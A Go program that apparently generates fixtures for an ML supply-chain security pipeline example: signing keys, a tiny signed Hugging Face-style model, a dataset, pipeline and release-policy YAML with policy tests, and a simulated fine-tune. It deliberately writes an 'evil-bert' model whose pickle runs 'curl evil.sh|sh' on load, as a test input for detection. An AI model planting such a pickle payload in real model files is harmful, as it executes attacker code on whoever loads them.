// Command mkfixtures writes the example pipeline's inputs (examples/run.sh):
// keys for the organisation's identities and an upstream publisher, a tiny
// Hugging Face-style model signed by its publisher, a dataset, a malicious
// model, the pipeline file, a training configuration and evaluation
// metrics; and "fine-tunes" a model (deterministically derives new weights
// from a base model and a dataset) for the example's training step.
//
// Usage:
//
//	go run ./examples/mkfixtures init DIR
//	go run ./examples/mkfixtures finetune BASE DATASET OUT
package main

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"crypto/x509"
	"encoding/binary"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"math"
	"os"
	"path/filepath"

	"github.com/mlsecops/mlsec/signing"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "mkfixtures:", err)
		os.Exit(2)
	}
}

func run(args []string) error {
	switch {
	case len(args) == 2 && args[0] == "init":
		return initDir(args[1])
	case len(args) == 4 && args[0] == "finetune":
		return finetune(args[1], args[2], args[3])
	}
	return fmt.Errorf("usage: mkfixtures init DIR | finetune BASE DATASET OUT")
}

// safetensors encodes float32 tensors as a safetensors file.
func safetensors(tensors map[string][]float32, order []string) []byte {
	hdr := map[string]any{"__metadata__": map[string]string{"format": "pt"}}
	var data []byte
	for _, name := range order {
		v := tensors[name]
		start := len(data)
		for _, f := range v {
			data = binary.LittleEndian.AppendUint32(data, math.Float32bits(f))
		}
		hdr[name] = map[string]any{"dtype": "F32", "shape": []int{len(v)}, "data_offsets": []int{start, len(data)}}
	}
	h, _ := json.Marshal(hdr)
	out := binary.LittleEndian.AppendUint64(nil, uint64(len(h)))
	return append(append(out, h...), data...)
}

func write(path string, data []byte) error {
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		return err
	}
	return os.WriteFile(path, data, 0o644)
}

func keyPair(dir, name string) (*ecdsa.PrivateKey, error) {
	k, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	der, err := x509.MarshalPKCS8PrivateKey(k)
	if err != nil {
		return nil, err
	}
	pub, err := x509.MarshalPKIXPublicKey(&k.PublicKey)
	if err != nil {
		return nil, err
	}
	if err := os.MkdirAll(dir, 0o700); err != nil {
		return nil, err
	}
	if err := os.WriteFile(filepath.Join(dir, name+".pem"), pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der}), 0o600); err != nil {
		return nil, err
	}
	return k, os.WriteFile(filepath.Join(dir, name+".pub"), pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: pub}), 0o644)
}

const pipelineYAML = `# The example pipeline (examples/README.md): an external model and a dataset
# taken in as untrusted, a fine-tune with provenance, a gate at each stage
# and a deployment gate.
apiVersion: mlsec.dev/pipeline/v1
name: acme-sentiment
identities:
  - {name: platform-ci, key: keys/platform.pub}        # CI runners, release signing
  - {name: sec-eng, key: keys/security.pub}             # security engineering
  - {name: data-eng, key: keys/data.pub}                # data engineering
  - {name: model-owner, key: keys/owner.pub}            # the model's owner
  - {name: ml-alice, subject: alice@acme.example}      # data scientist (no key: role holder only)
  - {name: grc-bob, subject: bob@acme.example}          # governance, risk and compliance
roles:
  platform: [platform-ci]
  security-engineer: [sec-eng]
  data-engineer: [data-eng]
  model-owner: [model-owner]
  data-scientist: [ml-alice]
  grc: [grc-bob]
sources:
  - {url: "https://huggingface.co/tiny-org/", trust: untrusted}
  - {url: "https://huggingface.co/datasets/tiny-org/", trust: untrusted}
artifacts:
  - name: base-model
    kind: external-model
    path: upstream/tiny-bert
    source: https://huggingface.co/tiny-org/tiny-bert
    stages: [experimentation]
  - name: reviews
    kind: dataset
    path: upstream/reviews
    source: https://huggingface.co/datasets/tiny-org/reviews
    stages: [data]
  - name: sentiment-model
    kind: model
    path: models/sentiment
    stages: [ci, cd, serving]
stages:
  experimentation:
    policies: [builtin:experimentation]
    params: {fail_on: high}
  data:
    policies: [builtin:data]
  ci:
    policies: [builtin:ci]
    params: {allowed_builders: ["https://ci.acme.example/runners/gpu"]}
  cd:
    policies: [builtin:cd, policies/release.yaml]
    params: {approver_roles: [platform]}
  serving:
    policies: [builtin:serving]
`

const releasePolicy = `# The organisation's own release rule, on top of builtin:cd.
apiVersion: mlsec.dev/policy/v1
name: acme/release
version: 1.0.0
stage: cd
params:
  min_datasets: 1
rules:
  - id: ACME-REL-001
    title: the model was fine-tuned from an approved base model on at least min_datasets datasets
    expr: provenance.base_models >= 1 && provenance.datasets >= params.min_datasets
    explain: '"provenance names " + string(provenance.base_models) + " base model(s) and " + string(provenance.datasets) + " dataset(s)"'
    mappings:
      - {framework: nist-ssdf-1.1, id: PW.3.2}
      - {framework: cosai-aimm, id: INV-L2-01}
  - id: ACME-REL-002
    title: the model owner approved the CI decision or the release is signed by the platform
    expr: decisions.exists(d, d.stage == "ci" && d.passed && d.verified && ("model-owner" in d.roles || "platform" in d.roles))
    mappings:
      - {framework: nist-ai-rmf-1.0, id: GOVERN 2.1}
`

const releasePolicyTest = `policy: release.yaml
cases:
  - name: fine-tuned from one base model on one dataset, approved
    evidence:
      provenance: {present: true, verified: true, base_models: 1, datasets: 1}
      decisions: [{stage: ci, passed: true, verified: true, roles: [platform]}]
    want: PASS
  - name: trained from scratch
    evidence:
      provenance: {present: true, verified: true, datasets: 1}
      decisions: [{stage: ci, passed: true, verified: true, roles: [platform]}]
    want: FAIL
    rules: {ACME-REL-001: FAIL}
  - name: no provenance
    evidence:
      decisions: [{stage: ci, passed: true, verified: true, roles: [platform]}]
    want: FAIL
    rules: {ACME-REL-001: FAIL, ACME-REL-002: PASS}
`

func initDir(dir string) error {
	keys := filepath.Join(dir, "keys")
	for _, n := range []string{"platform", "security", "data", "owner"} {
		if _, err := keyPair(keys, n); err != nil {
			return err
		}
	}
	// The upstream publisher's key lives outside the organisation.
	publisher, err := keyPair(filepath.Join(dir, "upstream-keys"), "tiny-org")
	if err != nil {
		return err
	}
	base := filepath.Join(dir, "upstream/tiny-bert")
	w := map[string][]float32{"embed.weight": {0.1, 0.2, 0.3, 0.4}, "classifier.weight": {0.5, -0.5}, "classifier.bias": {0}}
	files := map[string][]byte{
		"model.safetensors":     safetensors(w, []string{"embed.weight", "classifier.weight", "classifier.bias"}),
		"config.json":           []byte(`{"architectures":["BertForSequenceClassification"],"model_type":"bert","hidden_size":4,"num_labels":2}`),
		"tokenizer.json":        []byte(`{"version":"1.0","model":{"type":"WordLevel","vocab":{"[UNK]":0,"good":1,"bad":2},"unk_token":"[UNK]"}}`),
		"tokenizer_config.json": []byte(`{"tokenizer_class":"PreTrainedTokenizerFast"}`),
		"README.md":             []byte("# tiny-bert\nA tiny example model.\n"),
	}
	for n, b := range files {
		if err := write(filepath.Join(base, n), b); err != nil {
			return err
		}
	}
	res, err := signing.Sign(context.Background(), base, &signing.KeySigner{Key: publisher},
		signing.HashOptions{IgnorePaths: []string{"model.sig", "claims.jsonl"}})
	if err != nil {
		return err
	}
	if err := write(filepath.Join(base, "model.sig"), res.Bundle); err != nil {
		return err
	}
	data := filepath.Join(dir, "upstream/reviews")
	for n, b := range map[string][]byte{
		"train.jsonl": []byte("{\"text\":\"good product\",\"label\":1}\n{\"text\":\"bad product\",\"label\":0}\n"),
		"test.jsonl":  []byte("{\"text\":\"good\",\"label\":1}\n"),
		"README.md":   []byte("# reviews\nA tiny example dataset.\n"),
	} {
		if err := write(filepath.Join(data, n), b); err != nil {
			return err
		}
	}
	// A model whose pickle runs a command on load.
	evil := filepath.Join(dir, "upstream/evil-bert")
	if err := write(filepath.Join(evil, "config.json"), []byte(`{"model_type":"bert"}`)); err != nil {
		return err
	}
	if err := write(filepath.Join(evil, "pytorch_model.bin"), []byte("\x80\x02cposix\nsystem\nq\x00X\x10\x00\x00\x00curl evil.sh|shq\x01\x85q\x02Rq\x03.")); err != nil {
		return err
	}
	for n, b := range map[string]string{
		"pipeline.yaml":              pipelineYAML,
		"policies/release.yaml":      releasePolicy,
		"policies/release_test.yaml": releasePolicyTest,
		"train-config.yaml":          "learning_rate: 0.0001\nepochs: 3\nbatch_size: 8\nlora_rank: 4\n",
		"metrics.json":               `{"accuracy": 0.93, "f1": 0.91}`,
	} {
		if err := write(filepath.Join(dir, n), []byte(b)); err != nil {
			return err
		}
	}
	return nil
}

// finetune derives new weights from the base model's and the dataset's
// bytes: a stand-in for a training run that is deterministic and offline.
func finetune(base, dataset, out string) error {
	h := sha256.New()
	for _, p := range []string{filepath.Join(base, "model.safetensors"), filepath.Join(dataset, "train.jsonl")} {
		b, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		h.Write(b)
	}
	sum := h.Sum(nil)
	delta := func(i int) float32 { return float32(int(sum[i])-128) / 1024 }
	w := map[string][]float32{
		"embed.weight":      {0.1 + delta(0), 0.2 + delta(1), 0.3 + delta(2), 0.4 + delta(3)},
		"classifier.weight": {0.5 + delta(4), -0.5 + delta(5)},
		"classifier.bias":   {delta(6)},
	}
	files := map[string][]byte{
		"model.safetensors": safetensors(w, []string{"embed.weight", "classifier.weight", "classifier.bias"}),
		"README.md": []byte("---\nlicense: apache-2.0\nbase_model: tiny-org/tiny-bert\ndatasets: [tiny-org/reviews]\n---\n" +
			"# sentiment\nA sentiment classifier fine-tuned from tiny-bert on the reviews dataset (example).\n"),
	}
	for _, n := range []string{"config.json", "tokenizer.json", "tokenizer_config.json"} {
		b, err := os.ReadFile(filepath.Join(base, n))
		if err != nil {
			return err
		}
		files[n] = b
	}
	for n, b := range files {
		if err := write(filepath.Join(out, n), b); err != nil {
			return err
		}
	}
	return nil
}
